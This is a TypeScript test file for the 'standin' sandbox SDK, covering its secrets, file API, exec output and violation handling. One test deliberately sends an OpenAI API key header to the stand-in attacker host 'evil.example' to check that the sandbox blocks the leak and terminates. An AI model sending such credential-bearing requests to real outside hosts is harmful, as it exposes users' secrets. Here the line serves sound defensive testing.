// The rest of the package: validation errors (the Rust SDK's own messages), SecretBuilder.build,
// exec output, the file API, stop and `await using`, block-and-terminate, detached sandboxes.

import { test } from "node:test";
import assert from "node:assert/strict";
import { mkdtempSync, readFileSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { Sandbox, SecretBuilder, StandinError, ViolationActions } from "standin";
import { VALUES, connections, received, request } from "./fake-internet.js";

const IMAGE = "registry.test:5000/python";

/** The Rust SDK's messages for the same mistakes, computed by sdk_typescript.rs. */
const RUST_ERRORS = JSON.parse(process.env.STANDIN_TEST_RUST_ERRORS ?? "{}") as Record<string, string>;

test("invalid configuration throws StandinError with the Rust SDK's message", async () => {
  assert.ok(RUST_ERRORS.badEnv && RUST_ERRORS.noHost, "expected messages were not passed");
  await assert.rejects(
    Sandbox.builder("agent")
      .secret((s) => s.env("BAD=NAME").value("v").allowHost("api.openai.com"))
      .create(),
    (e: unknown) => e instanceof StandinError && e.message === RUST_ERRORS.badEnv,
  );
  assert.throws(
    () => new SecretBuilder().env("OPENAI_API_KEY").value("v").build(),
    (e: unknown) => e instanceof StandinError && e.message === RUST_ERRORS.noHost,
  );
  // A JavaScript type mistake names the call.
  await assert.rejects(
    Sandbox.builder("agent").secretEnv("OPENAI_API_KEY", undefined as unknown as string, "api.openai.com").create(),
    /SandboxBuilder\.secretEnv\(\): argument 2 must be a string, got null/,
  );
  // A callback that does not return its builder.
  assert.throws(
    () => Sandbox.builder("agent").secret((s) => { s.env("X"); return new SecretBuilder(); }),
    StandinError,
  );
});

test("SecretBuilder.build materializes the entry with the reference's defaults", () => {
  const e = new SecretBuilder().env("OPENAI_API_KEY").value("sk-1").allowHost("api.openai.com").build();
  assert.equal(e.envVar, "OPENAI_API_KEY");
  assert.equal(e.value, "sk-1");
  assert.equal(e.placeholder, "$MSB_OPENAI_API_KEY");
  assert.deepEqual(e.allowedHosts, ["api.openai.com"]);
  assert.equal(e.allowAnyHost, false);
  assert.equal(e.requireTlsIdentity, true);
  assert.deepEqual(e.injection, { headers: true, basicAuth: true, queryParams: false, body: false });
  // allowAnyHostDangerous is a no-op unless told `true`.
  assert.throws(() => new SecretBuilder().env("K").value("v").allowAnyHostDangerous(false).build(), StandinError);
  assert.equal(new SecretBuilder().env("K").value("v").allowAnyHostDangerous(true).build().allowAnyHost, true);
  const v = new SecretBuilder()
    .env("K").value("v").allowHost("a.example")
    .onViolation((b) => b.blockAndTerminate().passthroughAllHosts(false).passthroughHost("b.example"))
    .build();
  assert.deepEqual(v.onViolation, {
    action: "block-and-terminate",
    passthroughHosts: ["b.example"],
    passthroughHostPatterns: [],
    passthroughAllHosts: false,
  });
  assert.deepEqual([...ViolationActions], ["block", "block-and-log", "block-and-terminate", "passthrough"]);
});

test("exec output as bytes and text, the file API, and stop", async () => {
  const host = mkdtempSync(join(tmpdir(), "standin-ts-"));
  const sb = await Sandbox.builder("files").image(IMAGE).memory("256M").pids(64).create();
  try {
    const out = await sb.exec("sh", ["-c", "printf 'caf\\303\\251\\377'; echo err >&2; exit 3"]);
    assert.equal(out.code, 3);
    assert.equal(out.success, false);
    assert.deepEqual([...out.stdout], [0x63, 0x61, 0x66, 0xc3, 0xa9, 0xff]);
    assert.equal(out.stderrText(), "err\n");

    const fs = sb.fs();
    await fs.write("/tmp/task.json", '{"goal":"triage"}');
    assert.equal(await fs.readToString("/tmp/task.json"), '{"goal":"triage"}');
    assert.equal((await sb.exec("busybox", ["cat", "/tmp/task.json"])).stdoutText(), '{"goal":"triage"}');
    await fs.write("/tmp/bytes", new Uint8Array([0, 1, 255]));
    assert.deepEqual([...(await fs.read("/tmp/bytes"))], [0, 1, 255]);
    const st = await fs.stat("/tmp/bytes");
    assert.equal(st.kind, "file");
    assert.equal(st.size, 3);
    assert.ok((await fs.list("/tmp")).some((e) => e.name === "task.json"));
    writeFileSync(join(host, "in.txt"), "from the host");
    await fs.copyFromHost(join(host, "in.txt"), "/tmp/in.txt");
    assert.equal((await sb.exec("busybox", ["cat", "/tmp/in.txt"])).stdoutText(), "from the host");
    await sb.exec("sh", ["-c", "echo made inside > /tmp/out.txt"]);
    await fs.copyToHost("/tmp/out.txt", join(host, "out.txt"));
    assert.equal(readFileSync(join(host, "out.txt"), "utf8"), "made inside\n");
    await fs.remove("/tmp/task.json");
    assert.equal(await fs.exists("/tmp/task.json"), false);
    await assert.rejects(fs.read("/tmp/none"), StandinError);
  } finally {
    await sb.stop();
  }
  await assert.rejects(sb.exec("sh", ["-c", "exit 0"]), StandinError);
});

test("await using stops the sandbox when the scope ends", async () => {
  let kept: Sandbox;
  {
    await using sb = await Sandbox.builder("scoped").image(IMAGE).create();
    kept = sb;
    assert.equal((await sb.exec("sh", ["-c", "exit 0"])).code, 0);
  }
  await assert.rejects(kept.exec("sh", ["-c", "exit 0"]), StandinError);
});

test("blockAndTerminate ends the whole sandbox; the destination learns nothing", async () => {
  await using sb = await Sandbox.builder("agent")
    .image(IMAGE)
    .network((n) =>
      n.secretEnvSimple("OPENAI_API_KEY", process.env.OPENAI_API_KEY!, "api.openai.com")
        .onSecretViolation((v) => v.blockAndTerminate()),
    )
    .create();
  const r = await request(sb, "evil.example", "Authorization: Bearer $OPENAI_API_KEY").catch(
    () => ({ status: "killed", path: "" }),
  );
  assert.notEqual(r.status, "200");
  await sb.wait();
  assert.equal(sb.terminatedByViolation, true);
  await assert.rejects(sb.exec("sh", ["-c", "exit 0"]), StandinError);
  for (const c of connections().filter((c) => c.sni === "evil.example")) {
    assert.ok(!c.data.includes(VALUES.OPENAI_API_KEY) && !c.data.includes("$MSB_"), c.data);
  }
});

test("a detached sandbox is found again by name, listed, and removed", async () => {
  const name = `ts-detached-${process.pid}`;
  const sb = await Sandbox.builder(name).image(IMAGE).detached(true).create();
  assert.equal(sb.isDetached, true);
  await sb.exec("sh", ["-c", "echo kept > /tmp/state"]);
  const again = await Sandbox.get(name);
  assert.equal(again.id, sb.id);
  assert.equal((await again.exec("busybox", ["cat", "/tmp/state"])).stdoutText(), "kept\n");
  const listed = (await Sandbox.list()).find((i) => i.name === name);
  assert.equal(listed?.state, "running");
  await Sandbox.remove(name, { force: true });
  assert.equal((await Sandbox.list()).some((i) => i.name === name), false);
  await assert.rejects(Sandbox.get(name), StandinError);
});

test("updateSecret rotates a value without a restart; the placeholder stays", async () => {
  await using sb = await Sandbox.builder("agent")
    .image(IMAGE)
    .network((n) => n.secretEnvSimple("OPENAI_API_KEY", "sk-ts-before-rotation", "api.openai.com"))
    .create();
  const before = await request(sb, "api.openai.com", "Authorization: Bearer $OPENAI_API_KEY");
  await sb.updateSecret("OPENAI_API_KEY", "sk-ts-after-rotation");
  const after = await request(sb, "api.openai.com", "Authorization: Bearer $OPENAI_API_KEY");
  assert.deepEqual([before.status, after.status], ["200", "200"]);
  assert.ok(received(before.path)[0].text.includes("Bearer sk-ts-before-rotation"));
  assert.ok(received(after.path)[0].text.includes("Bearer sk-ts-after-rotation"));
  const env = await sb.exec("sh", ["-c", "echo $OPENAI_API_KEY"]);
  assert.equal(env.stdoutText().trim(), "$MSB_OPENAI_API_KEY");
  await assert.rejects(sb.updateSecret("NOPE", "x"), (e: Error) =>
    e instanceof StandinError && e.message.includes("no secret NOPE"));
});
